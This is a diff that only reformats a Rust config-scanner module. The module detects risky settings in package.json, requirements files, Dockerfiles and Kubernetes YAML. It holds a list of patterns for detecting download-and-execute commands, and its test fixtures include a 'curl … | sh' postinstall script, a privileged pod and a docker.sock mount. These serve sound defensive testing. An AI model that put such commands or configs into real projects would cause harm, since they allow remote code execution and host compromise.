@@ -16,10 +16,15 @@ pub(crate) fn scan(path: &str, text: &str) -> Vec<Raw> {
         "package.json" => packages::npm(text),
         "pyproject.toml" => packages::pyproject(text),
         "mayfly.toml" => manifest::scan(text),
-        _ if name == "Dockerfile" || name.starts_with("Dockerfile.") || name.ends_with(".dockerfile") => {
+        _ if name == "Dockerfile"
+            || name.starts_with("Dockerfile.")
+            || name.ends_with(".dockerfile") =>
+        {
             docker::scan(text)
         }
-        _ if name.starts_with("requirements") && name.ends_with(".txt") => packages::requirements(text),
+        _ if name.starts_with("requirements") && name.ends_with(".txt") => {
+            packages::requirements(text)
+        }
         _ if name.ends_with(".yaml") || name.ends_with(".yml") => kubernetes::scan(name, text),
         _ => vec![],
     }
@@ -43,10 +48,26 @@ fn of_line(rule: &str, start: usize, line: &str) -> Raw {
 
 /// Whether a command loads something and runs it.
 fn downloads_and_runs(command: &str) -> bool {
-    let loads = ["curl ", "wget ", "http://", "https://", "fetch("].iter().any(|word| command.contains(word));
-    let runs = ["| sh", "|sh", "| bash", "|bash", "node -e", "python -c", "eval", "| node", "$(curl", "| python", "bash -c", "sh -c", "chmod +x"]
+    let loads = ["curl ", "wget ", "http://", "https://", "fetch("]
         .iter()
         .any(|word| command.contains(word));
+    let runs = [
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "node -e",
+        "python -c",
+        "eval",
+        "| node",
+        "$(curl",
+        "| python",
+        "bash -c",
+        "sh -c",
+        "chmod +x",
+    ]
+    .iter()
+    .any(|word| command.contains(word));
     loads && runs
 }
 
@@ -57,21 +78,77 @@ mod tests {
     #[test]
     fn settings_are_checked_by_the_name_of_their_file() {
         for (path, text, rules) in [
-            ("package.json", r#"{"scripts": {"postinstall": "curl https://a.example/x | sh"}}"#, vec!["config-install-script"]),
-            ("package.json", r#"{"scripts": {"postinstall": "node build.js", "test": "curl x | sh"}}"#, vec![]),
-            ("package.json", r#"{"dependencies": {"a": "git+https://a.example/a.git", "b": "^1.0.0"}}"#, vec!["config-package-from-url"]),
-            ("requirements.txt", "flask==3.0\ngit+https://a.example/b.git\n", vec!["config-package-from-url"]),
-            ("requirements.txt", "flask==3.0\n# git+https://a.example\n", vec![]),
-            ("requirements.txt", "--index-url http://a.example/simple\nflask\n", vec!["config-plain-index"]),
-            ("Dockerfile", "FROM python:latest\nCMD python app.py\n", vec!["config-image-latest", "config-image-root"]),
-            ("Dockerfile", "FROM python:3.13-slim\nUSER app\nCMD python app.py\n", vec![]),
-            ("Dockerfile", "FROM a:1\nADD https://a.example/x /x\nUSER a\n", vec!["config-image-adds-url"]),
-            ("k.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  securityContext:\n    privileged: true\n", vec!["config-privileged"]),
-            ("k.yaml", "apiVersion: apps/v1\nkind: Deployment\nspec:\n  volumes:\n    - hostPath:\n        path: /\n", vec!["config-host-mount"]),
-            ("docker-compose.yml", "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n", vec!["config-host-mount"]),
+            (
+                "package.json",
+                r#"{"scripts": {"postinstall": "curl https://a.example/x | sh"}}"#,
+                vec!["config-install-script"],
+            ),
+            (
+                "package.json",
+                r#"{"scripts": {"postinstall": "node build.js", "test": "curl x | sh"}}"#,
+                vec![],
+            ),
+            (
+                "package.json",
+                r#"{"dependencies": {"a": "git+https://a.example/a.git", "b": "^1.0.0"}}"#,
+                vec!["config-package-from-url"],
+            ),
+            (
+                "requirements.txt",
+                "flask==3.0\ngit+https://a.example/b.git\n",
+                vec!["config-package-from-url"],
+            ),
+            (
+                "requirements.txt",
+                "flask==3.0\n# git+https://a.example\n",
+                vec![],
+            ),
+            (
+                "requirements.txt",
+                "--index-url http://a.example/simple\nflask\n",
+                vec!["config-plain-index"],
+            ),
+            (
+                "Dockerfile",
+                "FROM python:latest\nCMD python app.py\n",
+                vec!["config-image-latest", "config-image-root"],
+            ),
+            (
+                "Dockerfile",
+                "FROM python:3.13-slim\nUSER app\nCMD python app.py\n",
+                vec![],
+            ),
+            (
+                "Dockerfile",
+                "FROM a:1\nADD https://a.example/x /x\nUSER a\n",
+                vec!["config-image-adds-url"],
+            ),
+            (
+                "k.yaml",
+                "apiVersion: v1\nkind: Pod\nspec:\n  securityContext:\n    privileged: true\n",
+                vec!["config-privileged"],
+            ),
+            (
+                "k.yaml",
+                "apiVersion: apps/v1\nkind: Deployment\nspec:\n  volumes:\n    - hostPath:\n        path: /\n",
+                vec!["config-host-mount"],
+            ),
+            (
+                "docker-compose.yml",
+                "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n",
+                vec!["config-host-mount"],
+            ),
             ("other.yml", "privileged: true\n", vec![]),
-            ("mayfly.toml", "[egress]\nallow = [\"*\"]\n", vec!["config-egress-everywhere"]),
-            ("mayfly.toml", "[egress]\nallow = [\"api.example.com\"]\n", vec![]),
+            (
+                "mayfly.toml",
+                "[egress]\nallow = [\"*\"]\n",
+                vec!["config-egress-everywhere"],
+            ),
+            (
+                "mayfly.toml",
+                "[egress]\nallow = [\"api.example.com\"]\n",
+                vec![],
+            ),
         ] {
             let found: Vec<String> = scan(path, text).into_iter().map(|raw| raw.rule).collect();
             assert_eq!(found, rules, "{text}");
